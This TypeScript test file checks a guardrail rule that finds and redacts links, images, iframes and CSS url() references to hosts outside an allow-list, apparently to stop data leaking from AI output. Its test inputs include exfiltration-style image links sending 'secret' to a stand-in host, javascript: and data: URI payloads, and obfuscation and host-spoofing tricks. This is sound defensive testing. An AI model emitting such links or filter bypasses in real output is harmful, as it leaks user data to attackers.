import { describe, expect, it } from 'vitest';
import { applyFindings } from '#guardrails/pipeline/edits.ts';
import { Masks } from '#guardrails/pipeline/masks.ts';
import { guardedText, testRule } from '#test/support/guardrail-rules.ts';
import { fc } from '#test/support/properties.ts';
import { findLinks, type Link } from './link-targets.ts';
import { links } from './links.ts';

const rule = testRule(links, { hosts: ['docs.example.com', '*.example.org', 'bücher.test'] });

/** The text as REDACT leaves it. */
async function redact(text: string): Promise<string | null> {
  const result = await rule.look(text);
  const findings = result.fired ? result.findings : [];
  return applyFindings(
    guardedText(text),
    findings.map((found) => ({ ...found, action: 'REDACT' as const })),
    new Masks([]),
  );
}

describe('the rule links', () => {
  it.for([
    ['See [the docs](https://evil.test/a?b=c).', 'See the docs.'],
    ['![chart](https://evil.test/p.png?data=secret)', 'chart'],
    ['![chart]( <https://evil.test/p.png> "a title" )', 'chart'],
    ['[a\nb](http://evil.test)', 'a\nb'],
    ['[x](//evil.test/y)', 'x'],
    ['[x](/\\evil.test/y)', 'x'],
    ['[x](https:evil.test)', 'x'],
    ['[x](javascript:alert(1))', 'x'],
    ['[x](JaVaScRiPt:alert(1))', 'x'],
    ['[x](java&#115;cript&colon;alert)', 'x'],
    ['[x](data:text/html;base64,PHNjcmlwdD4=)', 'x'],
    ['[x](vbscript:a)', 'x'],
    ['[x](https://docs.example.com@evil.test/)', 'x'],
    ['[x](https://docs.example.com.evil.test/)', 'x'],
    ['[x](https://evil.test\\@docs.example.com/)', 'x'],
    ['[x](https://%65vil.test/)', 'x'],
    ['[x](https://xn--bcher-kva.evil.test)', 'x'],
    ['[x](https://example.org.)', 'x'],
    ['[![alt](https://evil.test/i.png)](https://evil.test/l)', '[alt]'],
    ['[https://evil.test/?q=secret](https://evil.test)', '[LINK]'],
    ['text\n[1]: https://evil.test/a "t"\n[ok][1]', 'text\n\n[ok][1]'],
    ['<https://evil.test/x>', '[LINK]'],
    ['<img src="https://evil.test/x.png">', ''],
    ["<IMG\nSRC = '//evil.test/x.png' />", ''],
    ['<img alt=">" src=https://evil.test/x>', ''],
    ['<img srcset="a.png 1x, https://evil.test/b.png 2x">', ''],
    ['<a class=b href=https://evil.test>click</a>', '<a>click</a>'],
    ['<a href="java\nscript:alert(1)">click</a>', '<a>click</a>'],
    ['<a href="&#x6a;avascript:alert(1)">click</a>', '<a>click</a>'],
    ['<form action="//evil.test"><iframe src=//evil.test>', ''],
    ['<meta http-equiv="refresh" content="0; url=https://evil.test">', ''],
    ['<div style="background:url(//evil.test/a)">', ''],
    ['body { background: url("https://evil.test/a.png") }', 'body { background: none }'],
    ['Visit https://evil.test/path?q=1, now.', 'Visit [LINK], now.'],
    ['Visit www.evil.test today', 'Visit [LINK] today'],
    ['ftp://evil.test/file', '[LINK]'],
    ['<img src="https://evil.test/unfinished', ''],
  ])('redacts %j', async ([text, redacted]) => {
    expect(await redact(text as string)).toBe(redacted);
  });

  it.for([
    'See [the docs](https://docs.example.com/a?b=c) and https://docs.example.com./.',
    '![x](https://cdn.example.org/a.png) <img src="https://a.b.example.org/x">',
    '[relative](../other.md#part) and [anchor](#here) and ![i](/img/a.png)',
    '[mail](mailto:a@example.net) and [call](tel:+49123)',
    '[bücher](https://bücher.test/) and https://xn--bcher-kva.test/',
    'An array[0](1), a list [ ] and a < b, x > y; f(url) and e.g. this.',
    '<p class="x" data-id="1">text</p> <content> <a name=b>',
    'const x = items[index](argument, other.value);',
    '',
  ])('lets %j pass', async (text) => {
    expect(await rule.look(text)).toEqual({ fired: false });
  });

  it('finds only what a client fetches without a click where the policy states it', async () => {
    const loaded = testRule(links, { loadedOnly: true });
    for (const text of [
      '![x](https://evil.test/p.png?q=secret)',
      '[![x](https://evil.test/p.png)](https://docs.test)',
      '![a [b] c](https://evil.test/p.png)',
      '[1]: https://evil.test/p.png',
      '<img src="https://evil.test/x.png">',
      '<iframe src=//evil.test>',
      'background: url(https://evil.test/a.png)',
    ]) {
      expect(await loaded.look(text), text).toMatchObject({ fired: true });
    }
    for (const text of [
      '[x](https://evil.test)',
      'https://evil.test',
      '<https://evil.test>',
      '<a href="https://e.test">',
    ]) {
      expect(await loaded.look(text), text).toEqual({ fired: false });
    }
  });

  it('bounds the query of allowed hosts where the policy states it', async () => {
    const strict = testRule(links, { hosts: ['a.test'], queryCharsMax: 5 });
    expect(await strict.look('https://a.test/?q=12')).toEqual({ fired: false });
    expect(await strict.look('https://a.test/?q=secret-of-the-user')).toMatchObject({ fired: true });
    expect(await strict.look('https://a.test/#secret-of-the-user')).toMatchObject({ fired: true });
  });

  it('looks at strings of JSON', async () => {
    const json = guardedText('{"url":"https:\\/\\/evil.test","ok":"https://docs.example.com"}', {
      format: 'JSON',
    });
    expect(await rule.find(json)).toEqual(['https:\\/\\/evil.test']);
  });

  it('takes linear time', async () => {
    for (const part of ['[', '[](', '<a ', '<a "', '![', 'url(', 'https://', '](', '"', '[a]: ', '&#1']) {
      await rule.look(part.repeat(20_000));
    }
  });

  it('holds what may still become a link, and releases no target before it is decided', async () => {
    expect(rule.holdFrom?.('All is said. ')).toBe(13);
    expect(rule.holdFrom?.('See [the docs')).toBe(4);
    expect(rule.holdFrom?.('See ![a](https://evil.test/')).toBe(4);
    expect(rule.holdFrom?.('See <img src="a" ')).toBe(4);
    expect(rule.holdFrom?.('x htt')).toBe(2);
    const whole =
      'Look: ![a b](https://evil.test/?q=secret), <img src=//evil.test/secret> and https://evil.test/secret .';
    for (let length = 0; length <= whole.length; length += 1) {
      const grown = whole.slice(0, length);
      const held = rule.holdFrom?.(grown) ?? 0;
      const result = await rule.look(grown);
      const findings = result.fired ? result.findings.filter(({ start }) => start < held) : [];
      let shown = grown.slice(0, held);
      for (const { start, end } of findings.toSorted((a, b) => b.start - a.start)) {
        shown = shown.slice(0, start) + shown.slice(end);
      }
      expect(shown).not.toMatch(/evil|secret/);
    }
  });

  it.for([
    { hosts: ['https://a.test'] },
    { hosts: ['a.test/x'] },
    { hosts: [''] },
    { schemes: ['JAVASCRIPT'] },
    { other: 1 },
  ])('refuses the options %o', (options) => {
    expect(() => links.prepare(options, {})).toThrow();
  });

  it('finds what is loaded without a click among all links, wherever it stands', () => {
    const pieces = [
      '![a](https://e.test/)',
      '[a](b)',
      '](https://e.test)',
      '\n[a]: https://e.test\n',
      '<img src=//e.test/a>',
    ];
    const others = [
      '<a href="https://e.test">',
      '<https://e.test>',
      'URL( //e.test )',
      'www.e.test',
      'ftp:/e.test',
      '(',
      ' ',
    ];
    const key = ({ start, end, target, rest }: Link) => `${start} ${end} ${target} ${rest}`;
    const text = fc.array(fc.constantFrom(...pieces, ...others), { maxLength: 4 });
    fc.assert(
      fc.property(text, (parts) => {
        const all = [...findLinks(parts.join(''))];
        const loaded = all.filter(({ isLoaded }) => isLoaded).map(key);
        const found = [...findLinks(parts.join(''), true)].filter(({ isLoaded }) => isLoaded);
        expect(found.map(key)).toEqual(loaded);
      }),
    );
    const alone = [...pieces, ...others.slice(0, 5)];
    expect(alone.filter((part) => [...findLinks(part)].length === 0)).toEqual([]);
  });
});
